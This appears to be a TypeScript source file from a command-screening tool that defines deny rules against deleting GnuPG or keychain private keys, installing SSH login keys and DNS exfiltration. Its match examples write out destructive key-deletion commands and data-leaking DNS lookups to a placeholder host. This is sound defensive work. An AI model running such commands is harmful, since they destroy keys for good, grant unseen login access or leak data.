/**
 * Two quiet ways out (issue 12): a public key installed where it lets someone log in
 * (`ssh-copy-id`), and the output of a command sent inside a DNS name (`dig $(whoami).example.net`),
 * which crosses firewalls that stop everything else. And one quiet way to lose: private keys deleted
 * from the GnuPG keyring or the macOS keychain, which no backup in the workspace brings back.
 */

import {commandRule, type CommandRule} from '../rules.js'

export const deletePrivateKeys = commandRule({
  id: 'system.delete-private-keys',
  pack: 'system',
  decision: 'deny',
  reason: 'deletes private keys or a keychain (signing and decryption keys are lost for good)',
  programs: ['gpg', 'gpg2', 'security'],
  examples: {
    match: [
      'gpg --batch --yes --delete-secret-keys ABCD1234',
      'gpg --delete-secret-and-public-keys --yes me@example.com',
      'security delete-keychain ~/Library/Keychains/login.keychain-db',
      'security delete-identity -c "Developer ID"',
    ],
    not_match: ['gpg --list-secret-keys', 'gpg --delete-keys old@example.com', 'security find-identity -v'],
  },
  check(cmd) {
    if (cmd.name === 'security') {
      const verb = cmd.argv[0] ?? ''
      return /^delete-(?:keychain|identity|certificate)$/.test(verb) ? `security ${verb}` : null
    }

    const opt = cmd.argv.find((a) => /^--delete-secret(?:-and-public)?-keys?$/.test(a))
    return opt === undefined ? null : `${cmd.name} ${opt}`
  },
})

export const sshCopyId = commandRule({
  id: 'system.install-login-key',
  pack: 'system',
  decision: 'deny',
  reason: 'installs a public key that lets its owner log in to a host (ssh-copy-id)',
  programs: ['ssh-copy-id'],
  examples: {match: ['ssh-copy-id user@host', 'ssh-copy-id -i key.pub root@localhost'], not_match: ['ssh-copy-id -h']},
  check: (cmd) => !cmd.argv.every((a) => a === '-h' || a === '--help'),
})

export const dnsExfiltration = commandRule({
  id: 'remote.dns-exfiltration',
  pack: 'remote',
  decision: 'deny',
  reason: 'sends the output of a command inside a host name (DNS exfiltration)',
  programs: ['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'kdig', 'resolvectl', 'getent'],
  examples: {
    match: ['dig $(whoami).example.net', 'nslookup `hostname`.example.net', 'ping -c1 $(id -u).example.net'],
    not_match: ['dig example.com', 'nslookup github.com', 'ping -c 3 $HOST'],
  },
  check(cmd) {
    const word = cmd.args.find((w) => w.substitution && !w.value.startsWith('-'))
    return word === undefined ? null : `${cmd.name} ${word.raw}: the name carries what the command printed`
  },
})

export const keysAndDnsRules: readonly CommandRule[] = [sshCopyId, dnsExfiltration, deletePrivateKeys]
